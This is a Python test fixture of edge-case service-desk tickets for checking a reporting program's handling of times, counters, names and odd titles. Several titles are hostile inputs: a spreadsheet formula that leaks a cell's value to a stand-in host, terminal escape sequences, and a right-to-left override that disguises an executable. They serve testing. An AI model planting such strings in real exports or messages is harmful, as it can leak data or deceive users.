"""Tickets that are there because programs get them wrong. README.md says what a correct program does with each.

Their numbers start at 900001. A field left out stays empty; `history` holds (at, field, from, to).
"""


def incident(number, service, title, opened, response, resolved, closed, **more):
    ticket = {
        "source_key": "INC0%06d" % number, "type": "incident", "service": service, "customer": "ostermoor",
        "title": title, "status": "closed" if closed else "resolved" if resolved else "active", "priority": "P3",
        "category": "client", "group": "Service Desk", "opened_at": opened, "first_response_at": response,
        "resolved_at": resolved, "closed_at": closed, "reopen_count": 0, "reassignment_count": 0,
        "tool_breached": "false",
    }
    ticket.update(more)
    return ticket


LONG = ("Since the update of last night the order list shows every article twice, the second time without price, and "
        "when one of them is opened the screen goes back to the start. ") * 8

TICKETS = [
    # Clock changes.
    incident(900001, "mail", "Mail not delivered in the night of the clock change", "2025-10-25 23:50",
             "2025-10-26 00:10", "2025-10-26 04:10", "2025-10-31 04:00", priority="P2", group="Platform",
             reassignment_count=1),
    incident(900002, "mail", "Mail queue grows in the night", "2026-03-28 22:10", "2026-03-28 22:30",
             "2026-03-29 06:40", "2026-04-03 04:00", priority="P2", group="Platform", reassignment_count=1),
    incident(900003, "erp", "Invoice run stopped on Friday evening", "2026-03-27 21:30", "2026-03-27 21:50",
             "2026-03-30 07:30", "2026-04-04 04:00", priority="P2", group="Applications", reassignment_count=1),
    # Across months; late.
    incident(900004, "files", "Old project share cannot be archived", "2026-03-03 09:12", "2026-03-03 10:40",
             "2026-09-10 15:30", "2026-09-15 04:00", priority="P4", group="Platform", reassignment_count=2,
             tool_breached="true"),
    # Reopened.
    incident(900005, "erp", "Goods receipt posted with wrong plant", "2026-08-26 09:00", "2026-08-26 09:40",
             "2026-09-04 11:00", None, reopen_count=1, history=[
                 ("2026-08-26 09:40", "status", "new", "active"), ("2026-08-27 09:00", "status", "active", "resolved"),
                 ("2026-09-04 09:00", "status", "resolved", "active"),
                 ("2026-09-04 11:00", "status", "active", "resolved")]),
    incident(900006, "erp", "Dunning letters sent to the wrong address", "2026-09-16 10:00", "2026-09-16 10:30",
             "2026-09-18 12:00", None, status="active", reopen_count=1, history=[
                 ("2026-09-16 10:30", "status", "new", "active"), ("2026-09-18 12:00", "status", "active", "resolved"),
                 ("2026-09-24 09:15", "status", "resolved", "active")]),
    incident(900007, "contact-centre", "Extension rings at the neighbour's desk", "2026-09-01 09:00",
             "2026-09-01 09:20", "2026-09-17 10:00", "2026-09-22 04:00", reopen_count=3, group="Telephony",
             reassignment_count=1, tool_breached="true", history=[
                 ("2026-09-01 09:20", "status", "new", "active"),
                 ("2026-09-01 09:25", "group", "Service Desk", "Telephony"),
                 ("2026-09-01 15:00", "status", "active", "resolved"),
                 ("2026-09-03 08:00", "status", "resolved", "active"),
                 ("2026-09-03 16:00", "status", "active", "resolved"),
                 ("2026-09-08 09:00", "status", "resolved", "active"),
                 ("2026-09-08 17:00", "status", "active", "resolved"),
                 ("2026-09-16 13:00", "status", "resolved", "active"),
                 ("2026-09-17 10:00", "status", "active", "resolved"),
                 ("2026-09-22 04:00", "status", "resolved", "closed")]),
    # Bad times.
    incident(900008, "mail", "Signature shows old address", "2026-09-08 10:12", None, "2026-09-08 09:47",
             "2026-09-13 04:00"),
    incident(900009, "files", "Drive letter changed", "2026-09-09 11:00", "2026-09-09 11:30", "2026-09-09 13:00",
             "2026-09-09 10:00"),
    incident(900010, "remote-access", "Client shows no server list", "2026-09-14 08:30", "2026-09-14 08:05",
             "2026-09-14 10:00", "2026-09-19 04:00"),
    incident(900011, "mail", "Calendar of meeting room empty", "2026-09-15 09:00", "2026-09-15 13:00",
             "2026-09-15 12:10", "2026-09-20 04:00"),
    # Names.
    incident(900012, "VPN", "Token not accepted after flight", "2026-09-02 08:11", "2026-09-02 08:40",
             "2026-09-02 10:00", "2026-09-07 04:00"),
    incident(900013, "Exchange", "Out-of-office text in wrong language", "2026-09-03 12:00", "2026-09-03 12:20",
             "2026-09-03 14:00", "2026-09-08 04:00", customer="OMF"),
    incident(900014, "Intranet wiki", "Wiki page shows login loop", "2026-09-04 09:30", "2026-09-04 10:00",
             "2026-09-04 15:00", "2026-09-09 04:00"),
    incident(900015, "Intranet wiki", "Wiki search finds nothing", "2026-09-21 13:10", "2026-09-21 13:40",
             "2026-09-22 09:00", "2026-09-27 04:00"),
    incident(900016, "Badge readers", "Door of server room stays shut", "2026-06-10 07:10", "2026-06-10 07:20",
             "2026-06-10 11:00", "2026-06-15 04:00", customer="falkenbrueck"),
    incident(900017, "", "Caller did not say which system", "2026-09-23 10:10", "2026-09-23 10:12",
             "2026-09-23 10:40", "2026-09-28 04:00"),
    incident(900018, "files", "Share of the Hamburg office not reachable", "2026-09-17 09:00", "2026-09-17 09:10",
             "2026-09-17 12:00", "2026-09-22 04:00", customer="Reederei Nordholm"),
    # Breached and still open.
    incident(900019, "erp", "Month-end report differs from ledger by one cent", "2026-08-13 09:00",
             "2026-08-13 11:00", None, None, group="Applications", tool_breached="true"),
    incident(900020, "contact-centre", "Statistics of the hotline lose every tenth call", "2026-09-07 10:00",
             "2026-09-07 12:00", None, None, customer="falkenbrueck", group="Telephony", tool_breached="true"),
    incident(900021, "contact-centre", "Softphone echo in the open-plan office", "2026-09-10 14:00",
             "2026-09-10 15:00", None, None, customer="falkenbrueck", group="Telephony", status="pending",
             tool_breached="true"),
    incident(900022, "mail", "Migration of public folders stuck at 97 %", "2026-09-18 08:00", "2026-09-18 08:30", None,
             None, customer="tannenried", group="Platform", tool_breached="true"),
    incident(900023, "web-shop", "Invoices of guest orders without VAT number", "2026-09-22 16:00", None, None, None,
             status="new", priority="P4", tool_breached="true"),
    incident(900024, "files", "Restore of the design archive incomplete", "2025-11-12 09:00", "2025-11-12 09:30", None,
             None, priority="P4", group="Platform", status="pending", tool_breached="true"),
    # Goal to the second.
    incident(900025, "payroll", "Pay slips printed without address", "2026-09-11 16:00", "2026-09-11 16:20",
             "2026-09-14 15:00", "2026-09-19 04:00", priority="P2"),
    incident(900026, "payroll", "Bank file without message to recipient", "2026-09-18 16:00", "2026-09-18 16:20",
             "2026-09-21 15:00:01", "2026-09-26 04:00", priority="P2", tool_breached="true"),
    incident(900027, "payroll", "Easter bonus calculated twice", "2026-04-02 16:30", "2026-04-02 16:50",
             "2026-04-07 15:00", "2026-04-12 04:00", priority="P2", tool_breached="true"),
    # Finished, but how?
    incident(900028, "remote-access", "Duplicate of another ticket", "2026-09-09 14:00", "2026-09-09 14:05", None,
             "2026-09-09 14:10"),
    incident(900029, "files", "Imported from the old tool", "2026-09-01 00:30", None, None, None, status="closed"),
    incident(900030, "mail", "Priority to be decided", "2026-09-24 11:00", "2026-09-24 11:30", "2026-09-24 15:00",
             "2026-09-29 04:00", priority=""),
    incident(900031, "files", "Nobody's ticket", "2026-09-25 09:00", None, None, None, status="new", group="",
             priority="P4"),
    # Text that has a will of its own.
    incident(900032, "erp", '=HYPERLINK("http://example.invalid/?leak="&A1,"Order 4711 - open")', "2026-09-02 09:00",
             "2026-09-02 09:20", "2026-09-02 13:00", "2026-09-07 04:00"),
    incident(900033, "mail", "\x1b[31mALARM\x1b[0m \x1b]0;all is well\x07mail server \x1b[2J", "2026-09-03 09:00",
             "2026-09-03 09:20", "2026-09-03 13:00", "2026-09-08 04:00"),
    incident(900034, "mail", "Attachment invoice_\u202egpj.exe does not open", "2026-09-07 09:00", "2026-09-07 09:20",
             "2026-09-07 13:00", "2026-09-12 04:00", category="security", sec_type="malware",
             contained_at="2026-09-07 09:45"),
    incident(900035, "erp", "受注入力の画面が真っ白になる（東京支店）", "2026-09-08 09:00", "2026-09-08 09:20",
             "2026-09-08 13:00", "2026-09-13 04:00"),
    incident(900036, "contact-centre", "Phones \U0001f4de\U0001f525 dead since nine \U0001f469\U0001f3fd\u200d\U0001f4bb "
             "please help \U0001f1e9\U0001f1ea", "2026-09-09 09:00", "2026-09-09 09:20", "2026-09-09 13:00",
             "2026-09-14 04:00"),
    incident(900037, "erp", LONG.strip(), "2026-09-10 09:00", "2026-09-10 09:20", "2026-09-10 13:00",
             "2026-09-15 04:00"),
    incident(900038, "files", 'He says "it is slow", then "it is gone"; both', "2026-09-11 09:00", "2026-09-11 09:20",
             "2026-09-11 13:00", "2026-09-16 04:00"),
    incident(900039, "web-shop", "Two lines in the subject:\nsecond line, with comma and \"quotes\"",
             "2026-09-14 09:00", "2026-09-14 09:20", "2026-09-14 13:00", "2026-09-19 04:00"),
    incident(900040, "contact-centre", "+49 40 5550 0199 cannot be called", "2026-09-15 10:00", "2026-09-15 10:20",
             "2026-09-15 13:00", "2026-09-20 04:00"),
    incident(900041, "remote-access", "-1 licences left, says the client", "2026-09-16 09:00", "2026-09-16 09:20",
             "2026-09-16 13:00", "2026-09-21 04:00"),
    incident(900042, "mail", "@everyone receives the test mails", "2026-09-17 09:00", "2026-09-17 09:20",
             "2026-09-17 13:00", "2026-09-22 04:00"),
    incident(900043, "files", "Z\u0351\u036b\u0343a\u0327\u0325l\u034dg\u0321o\u0489 in the folder name and a\u0308 beside ä",
             "2026-09-18 09:00", "2026-09-18 09:20", "2026-09-18 13:00", "2026-09-23 04:00"),
    # Denominators.
    incident(900044, "erp", "Withdrawn: was a typing error of the caller", "2026-09-01 08:00", "2026-09-01 08:20", None,
             None, status="cancelled", priority="P2", tool_breached="true"),
    incident(900045, "mail", "Solved by the automatic restart", "2026-09-19 03:00", None, "2026-09-19 03:10",
             "2026-09-24 04:00"),
    # The edge of the month, to the second; one stamp in UTC.
    incident(900046, "mail", "Last mail of August", "2026-08-31 23:59:59", "2026-09-01 00:10", "2026-09-01 01:00",
             "2026-09-06 04:00"),
    incident(900047, "mail", "First mail of September", "2026-09-01 00:00", "2026-09-01 00:10", "2026-09-01 01:00",
             "2026-09-06 04:00"),
    incident(900048, "mail", "September in UTC, October in Berlin", "2026-09-30T22:30:00Z", "2026-09-30T22:45:00Z",
             "2026-10-01 06:10", None),
    # Rows that cannot be read as they are.
    incident(900049, "mail", "Opened on the thirty-first of September", "2026-09-31T10:00:00+02:00", None, None, None,
             status="new"),
    incident(900050, "mail", "Answered yesterday", "2026-09-28 09:00", "yesterday", "2026-09-28 11:00",
             "2026-10-03 04:00"),
    # Priority raised on the way.
    incident(900051, "erp", "Label printer slow, then the whole shipping stood still", "2026-09-22 09:00",
             "2026-09-22 09:30", "2026-09-22 15:00", "2026-09-27 04:00", priority="P2", group="Applications",
             reassignment_count=1, history=[
                 ("2026-09-22 09:30", "status", "new", "active"), ("2026-09-22 11:00", "priority", "P3", "P2"),
                 ("2026-09-22 11:05", "group", "Service Desk", "Applications"),
                 ("2026-09-22 15:00", "status", "active", "resolved"),
                 ("2026-09-27 04:00", "status", "resolved", "closed")]),
    # The tool's counter disagrees with the history.
    incident(900052, "files", "Folder rights lost after move", "2026-09-23 09:00", "2026-09-23 09:20",
             "2026-09-23 12:00", "2026-09-28 04:00", reopen_count=2, history=[
                 ("2026-09-23 09:20", "status", "new", "active"), ("2026-09-23 12:00", "status", "active", "resolved"),
                 ("2026-09-28 04:00", "status", "resolved", "closed")]),
]


def change(number, service, title, opened, **more):
    ticket = {
        "source_key": "CHG0%06d" % number, "type": "change", "service": service, "customer": "", "title": title,
        "status": "closed", "priority": "P3", "category": "change", "group": "Platform", "opened_at": opened,
        "change_type": "normal", "risk": "medium", "backed_out": "false",
    }
    ticket.update(more)
    return ticket


TICKETS += [
    change(900001, "files", "Move of the archive to cheaper disks", "2026-08-20 10:00", status="cancelled",
           outcome="cancelled", approved_at="2026-08-25 10:00", planned_start="2026-09-12 08:00",
           planned_end="2026-09-12 12:00"),
    change(900002, "erp", "New release of the EDI interface", "2026-09-01 10:00", outcome="failed", backed_out="true",
           risk="high", approved_at="2026-09-07 14:00", planned_start="2026-09-10 18:00",
           planned_end="2026-09-10 20:00", actual_start="2026-09-10 18:05", actual_end="2026-09-10 21:30",
           resolved_at="2026-09-10 21:30", closed_at="2026-09-17 04:00", group="Applications"),
    change(900003, "mail", "New transport rule", "2026-09-14 15:00", outcome="successful",
           planned_start="2026-09-14 16:00", planned_end="2026-09-14 16:30", actual_start="2026-09-14 16:00",
           actual_end="2026-09-14 16:20", resolved_at="2026-09-14 16:20", closed_at="2026-09-21 04:00"),
    change(900004, "remote-access", "Firewall opened for supplier, approval entered afterwards", "2026-09-23 20:00",
           outcome="successful", change_type="emergency", approved_at="2026-09-24 09:30",
           planned_start="2026-09-23 20:00", planned_end="2026-09-23 21:00", actual_start="2026-09-23 20:10",
           actual_end="2026-09-23 20:40", resolved_at="2026-09-23 20:40", closed_at="2026-09-30 04:00",
           group="Network"),
    change(900005, "payroll", "Update of the time recording module", "2026-09-21 09:00", status="active",
           approved_at="2026-09-23 10:00", planned_start="2026-10-05 07:00", planned_end="2026-10-05 09:00",
           actual_start="2026-10-05 07:02", group="Applications"),
    change(900006, "web-shop", "Payment by instalments goes live", "2026-09-15 09:00", outcome="partial",
           approved_at="2026-09-18 10:00", planned_start="2026-09-20 03:00", planned_end="2026-09-20 05:00",
           actual_start="2026-09-20 03:00", actual_end="2026-09-20 04:30", resolved_at="2026-09-20 04:30",
           closed_at="2026-09-27 04:00", group="Applications", risk="major"),
    change(900007, "erp", "Year-end patch level", "2026-09-28 09:00", status="pending", group="Applications",
           planned_start="2026-10-17 08:00", planned_end="2026-10-17 12:00"),
    change(900008, "files", "Second shelf for file volume 1", "2026-09-30 10:00", status="new", risk="high",
           planned_start="2026-11-07 08:00", planned_end="2026-11-07 14:00"),
]
